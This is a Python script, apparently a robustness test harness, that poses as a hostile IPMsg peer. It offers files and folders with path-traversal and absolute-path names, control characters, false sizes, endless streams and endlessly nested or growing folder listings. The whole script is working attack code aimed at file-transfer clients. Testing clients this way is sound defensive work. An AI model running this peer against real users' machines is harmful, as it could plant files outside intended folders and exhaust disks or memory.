#!/usr/bin/env python3
"""A hostile IPMsg peer in its own process: offers files and folders whose lists and streams lie.

It sends one offer per trick to the victim over UDP, then serves the victim's GETFILEDATA and
GETDIRFILES requests on TCP with lies: hostile names, sizes that are too small or too large,
folders nested without end, folders that never stop growing, streams that break off.
Usage: hostile_peer.py BIND_IP PORT VICTIM_IP OUTSIDE_DIR SECONDS
Prints a line per request served; runs until killed or a minute after SECONDS.
"""
import socket
import sys
import threading
import time

SENDMSG, SENDCHECK, FILEATTACH, UTF8 = 0x20, 0x100, 0x200000, 0x800000
GETFILEDATA, GETDIRFILES = 0x60, 0x62
REGULAR, DIR, RETPARENT = 1, 2, 3
MIB = 1024 * 1024

bind_ip, port, victim, outside, seconds = (sys.argv[1], int(sys.argv[2]), sys.argv[3],
                                           sys.argv[4], float(sys.argv[5]))
deadline = time.time() + seconds + 60
pushed = 0
lock = threading.Lock()


def say(text):
    sys.stdout.write(text + "\n")  # one write, so lines from threads do not run together
    sys.stdout.flush()


def esc(name):
    return name.replace(b":", b"::")


def entry(name, size, attr):
    """One folder-stream header; its length field counts itself."""
    body = b":" + esc(name) + b":" + b"%x" % size + b":" + b"%x" % attr + b":14=0:16=0:"
    return b"%04x" % (len(body) + 4) + body


def push(conn, data):
    global pushed
    conn.sendall(data)
    with lock:
        pushed += len(data)


def endless(conn, make):
    """Sends make(i) for i = 0, 1, ... until the victim hangs up or time runs out."""
    i = 0
    try:
        while time.time() < deadline:
            push(conn, make(i))
            i += 1
    except OSError:
        pass
    return i


# fileID -> (name in the offer, offered size, attr, how to serve it)
def names_file(conn):
    push(conn, b"pwned\n")


def short_file(conn):
    push(conn, b"s" * (100 * 1024))  # of 1 MiB offered, then hangs up


def endless_file(conn):
    endless(conn, lambda i: b"L" * 65536)  # 1000 bytes offered


def huge_file(conn):
    push(conn, b"h" * MIB)  # 16 EiB offered


def deep_folder(conn):
    endless(conn, lambda i: entry(b"../up", 0, DIR))


def fat_folder(conn):
    chunk = b"F" * MIB
    push(conn, entry(b"fat", 0, DIR))
    # 1 MiB offered; every file inside claims and sends 16 MiB, forever.
    endless(conn, lambda i: entry(b"f%d" % (i // 16), 16 * MIB, REGULAR) + chunk
            if i % 16 == 0 else chunk)


def wide_folder(conn):
    push(conn, entry(b"wide", 0, DIR))
    tricks = [b"../w%d", b"/tmp/w%d", b"..", b"w%d/../../x", b"w%d\x01"]
    stop = time.time() + seconds
    i = 0
    try:
        while time.time() < stop:
            push(conn, b"".join(entry(tricks[j % len(tricks)].replace(b"%d", b"%d" % (i + j)), 0,
                                      REGULAR) for j in range(64)))
            i += 64
            time.sleep(0.01)  # ~6,000 entries a second: about what the victim creates
    except OSError:
        pass
    say("wide: %d entries, then hung up without closing the folder" % i)


def garbled_folder(conn):
    push(conn, entry(b"garbled", 0, DIR) + b"zzzz:not a header:1:1:" + b"\xff" * 100)


ITEMS = {
    0: (b"../../escape.txt", 6, REGULAR, names_file),
    1: (outside.encode() + b"/absolute.txt", 6, REGULAR, names_file),
    2: (b"..", 6, REGULAR, names_file),
    3: (b"a/../../b.txt", 6, REGULAR, names_file),
    4: (b"..\\..\\windows.txt", 6, REGULAR, names_file),
    5: (b"n" * 4096, 6, REGULAR, names_file),
    6: (b"ctl\x01\x02\x1b[31mred", 6, REGULAR, names_file),
    7: (b"twice.txt", 6, REGULAR, names_file),
    8: (b"twice.txt", 6, REGULAR, names_file),
    10: (b"short.bin", MIB, REGULAR, short_file),
    11: (b"endless.bin", 1000, REGULAR, endless_file),
    12: (b"huge.bin", 0xFFFFFFFFFFFFFFFF, REGULAR, huge_file),
    20: (b"deep", 0, DIR, deep_folder),
    21: (b"fat", MIB, DIR, fat_folder),
    22: (b"wide", 0, DIR, wide_folder),
    23: (b"garbled", 0, DIR, garbled_folder),
}
# One offer per trick. The names offer lists fileID 7 twice, and fileID 8 under 7's name.
OFFERS = [[0, 1, 2, 3, 4, 5, 6, 7, 7, 8], [10], [11], [12], [20], [21], [22], [23]]


def file_list(ids):
    out = b""
    for fid in ids:
        name, size, attr, _ = ITEMS[fid]
        out += b"%d:%s:%x:0:%x:\a" % (fid, esc(name), size, attr)
    return out


def serve(conn):
    with conn:
        conn.settimeout(10)
        try:
            request = conn.recv(4096)
            fields = request.split(b":", 5)
            command = int(fields[4]) & 0xFF
            fid = int(fields[5].split(b":")[1], 16)
        except (OSError, ValueError, IndexError):
            say("bad request %r" % request[:80])
            return
        _, _, _, how = ITEMS[fid]
        say("serving %s for %s" % (how.__name__, "GETDIRFILES" if command == GETDIRFILES
                                     else "GETFILEDATA"))
        try:
            how(conn)
        except OSError:
            pass
        say("%s done; %d MiB pushed in all" % (how.__name__, pushed // MIB))


def main():
    tcp = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    tcp.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    tcp.bind((bind_ip, port))
    tcp.listen(64)
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    udp.bind((bind_ip, port))
    for n, ids in enumerate(OFFERS):
        extra = b"take this\0" + file_list(ids) + b"\0"
        header = b"1:%d:evil:evilhost:%d:" % (1000 + n, SENDMSG | SENDCHECK | FILEATTACH | UTF8)
        udp.sendto(header + extra, (victim, port))
    say("sent %d offers" % len(OFFERS))
    tcp.settimeout(1)
    while time.time() < deadline:
        try:
            conn, _ = tcp.accept()
        except socket.timeout:
            continue
        threading.Thread(target=serve, args=(conn,), daemon=True).start()


main()
